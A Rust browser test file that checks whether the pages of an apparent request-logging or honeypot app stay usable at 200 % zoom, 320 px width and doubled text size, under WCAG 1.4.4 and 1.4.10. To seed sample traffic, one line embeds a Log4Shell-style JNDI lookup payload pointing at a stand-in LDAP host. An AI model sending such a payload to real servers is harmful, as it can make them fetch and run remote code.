//! Every page at 200 %, at 320 pixels, and with letters of twice the size. Nothing is cut off,
//! covered or out of reach (WCAG 2.2, 1.4.4 and 1.4.10). Needs Chromium: `make test-browser`.

use anyhow::{Context, ensure};
use forever200_testkit::browser::{Browser, LAPTOP, Visitor};
use forever200_testkit::probes;
use forever200_testkit::stack::{FRONT_PORT, Setup};
use forever200_testkit::{Stack, exchange, loopback};
use serde_json::json;

/// Windows: width and height in CSS pixels, and zoom. They are 1280x720 at 200 %, and 1280x1024 at
/// 400 %, which is 320 wide.
const WINDOWS: [(u32, u32, u32); 2] = [(640, 360, 2), (320, 256, 4)];

/// A script that returns the faults of a page, each with its element.
const FAULTS: &str = r#"
    const faults = [];
    const name = (it) => it.outerHTML.slice(0, 160);
    const page = document.documentElement;
    if (page.scrollWidth > innerWidth) faults.push(`${page.scrollWidth} pixels wide`);
    // Text that is for screen readers alone is clipped away.
    const isClipped = (it) => it !== null && (getComputedStyle(it).clipPath !== 'none' || isClipped(it.parentElement));
    const isShown = (it) => it.checkVisibility() && it.getBoundingClientRect().width > 1 && !it.closest('.skip') && !isClipped(it);
    // Cut off: an element whose content is larger than its box and cannot be scrolled.
    for (const it of document.querySelectorAll('body *')) {
        const { overflowX, overflowY } = getComputedStyle(it);
        const isCut = (overflow, inside, box) => ['hidden', 'clip'].includes(overflow) && inside > box + 1;
        if (!isShown(it) || it.closest('svg')) continue;
        if (isCut(overflowX, it.scrollWidth, it.clientWidth) || isCut(overflowY, it.scrollHeight, it.clientHeight)) faults.push(`cut off: ${name(it)}`);
    }
    // Covered or out of reach: when an element has the focus, it must be in the window, with
    // nothing over it.
    const usable = [...document.querySelectorAll('a[href], button, input:not([type=hidden]), select, summary, textarea')].filter(isShown);
    for (const it of usable) {
        it.focus();
        it.scrollIntoView({ block: 'center' });
        // A link over several lines has a box on each line.
        const boxes = [...it.getClientRects()].filter((box) => box.width > 1);
        const hits = boxes.map((box) => {
            const [x, y] = [box.left + box.width / 2, box.top + box.height / 2];
            const top = document.elementFromPoint(x, y);
            return y < 0 || y > innerHeight || (top !== null && (it.contains(top) || top.contains(it)));
        });
        if (document.activeElement !== it || hits.includes(false)) faults.push(`out of reach: ${name(it)}`);
    }
    // Lines of text that overlap.
    const texts = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    scrollTo(0, 0);
    while (walker.nextNode()) {
        const node = walker.currentNode;
        if (!node.data.trim() || !isShown(node.parentElement) || node.parentElement.closest('pre, textarea, option, #more')) continue;
        const range = document.createRange();
        range.selectNodeContents(node);
        for (const box of range.getClientRects()) if (box.width > 1) texts.push([box, node.data.trim().slice(0, 40)]);
    }
    texts.sort((a, b) => a[0].top - b[0].top);
    for (const [index, [box, text]] of texts.entries()) {
        for (const [other, more] of texts.slice(index + 1, index + 60)) {
            const deep = Math.min(box.bottom, other.bottom) - Math.max(box.top, other.top);
            const wide = Math.min(box.right, other.right) - Math.max(box.left, other.left);
            // The boxes of letters are higher than the letters.
            if (deep > Math.min(box.height, other.height) * 0.4 && wide > 2) faults.push(`over each other: ${text} / ${more}`);
        }
    }
    return faults.slice(0, 8);
"#;

/// A script that returns the size of the smallest letters, in pixels.
const SIZE: &str =
    "return Math.min(...[...document.querySelectorAll('main p, main td, main li, main dt')]
    .filter((it) => it.checkVisibility()).map((it) => parseFloat(getComputedStyle(it).fontSize)))";

/// Starts a stack with some requests of each sort. Returns it and the addresses of all pages that
/// show them.
async fn full_ring(history: &tempfile::TempDir) -> anyhow::Result<(Stack, Vec<String>)> {
    let folder = history.path().to_str().context("an odd path")?;
    let own = loopback();
    let bind = format!("{own}:{FRONT_PORT},{own}:65535");
    let setup = Setup {
        variables: &[("FOREVER200_HISTORY", folder), ("FOREVER200_BIND", &bind)],
        ..Setup::default()
    };
    let stack = Stack::start_at(own, setup).await?;
    for (sent, (_, bytes)) in (1..).zip(probes::probes()) {
        stack.send(&bytes).await?;
        stack.until_recorded(sent).await?;
    }
    // With a second port, the list has a column for it.
    let claims =
        b"GET / HTTP/1.1\r\nX-Forwarded-For: 2001:db8:1111:2222:3333:4444:5555:6666\r\n\r\n";
    exchange(stack.at(65_535), claims).await?;
    let claimed = probes::probes().len() as u64 + 1;
    stack.until_recorded(claimed).await?;
    let long = [
        b"GET /",
        &[b'w'; 900][..],
        b"?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nX-Long-Name-Of-A-Header: ",
        &[b'v'; 900],
        b"\r\n\r\n",
    ];
    stack.send(&long.concat()).await?;
    let newest = claimed + 1;
    stack.until_recorded(newest).await?;
    let pages = [
        "/home",
        "/home?category=exploit&q=jndi&-source=me",
        "/home?q=no+such",
        "/home/labels",
        "/home/labels?category=recon",
        "/home?view=wall",
        "/home/history?category=exploit",
        "/home/collection",
        "/home/collection/log4shell",
        "/home/sources",
        "/home/sources/127.0.0.1",
        "/home/requests/1",
        "/home/requests/9",
        "/home/requests/9999",
    ];
    let mut pages: Vec<_> = pages.map(str::to_owned).into();
    pages.extend([claimed, newest].map(|seq| format!("/home/requests/{seq}")));
    Ok((stack, pages))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn nothing_is_lost_at_200_percent_or_320_pixels() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, pages) = full_ring(&history).await?;
    let browser = Browser::start(LAPTOP).await?;
    let mut faults = Vec::new();
    for (width, height, zoom) in WINDOWS {
        browser.resize(width, height, zoom).await?;
        for page in &pages {
            browser
                .open(&format!("http://{}{page}", stack.front()))
                .await?;
            // Folded parts are opened too.
            browser
                .run("for (const it of document.querySelectorAll('details')) it.open = true")
                .await?;
            let found = browser.run(FAULTS).await?;
            if found != json!([]) {
                faults.push(format!("{page}, {width}x{height}: {found:#}"));
            }
        }
    }
    ensure!(faults.is_empty(), "{}", faults.join("\n"));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn letters_may_be_twice_as_large() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, pages) = full_ring(&history).await?;
    let mut sizes: Vec<Vec<f64>> = Vec::new();
    let mut faults = Vec::new();
    for letters in [16, 32] {
        let browser = Browser::start(Visitor { letters, ..LAPTOP }).await?;
        let mut found_sizes = Vec::new();
        for page in &pages {
            let address = format!("http://{}{page}", stack.front());
            browser.open(&address).await?;
            let size = browser.run(SIZE).await?;
            found_sizes.push(size.as_f64().with_context(|| page.clone())?);
            let found = browser.run(FAULTS).await?;
            if letters == 32 && found != json!([]) {
                faults.push(format!("{page}: {found:#}"));
            }
        }
        sizes.push(found_sizes);
    }
    for ((page, before), after) in pages.iter().zip(&sizes[0]).zip(&sizes[1]) {
        ensure!(*after >= before * 1.8, "{page}: {before} to {after} pixels");
    }
    ensure!(faults.is_empty(), "{}", faults.join("\n"));
    Ok(())
}
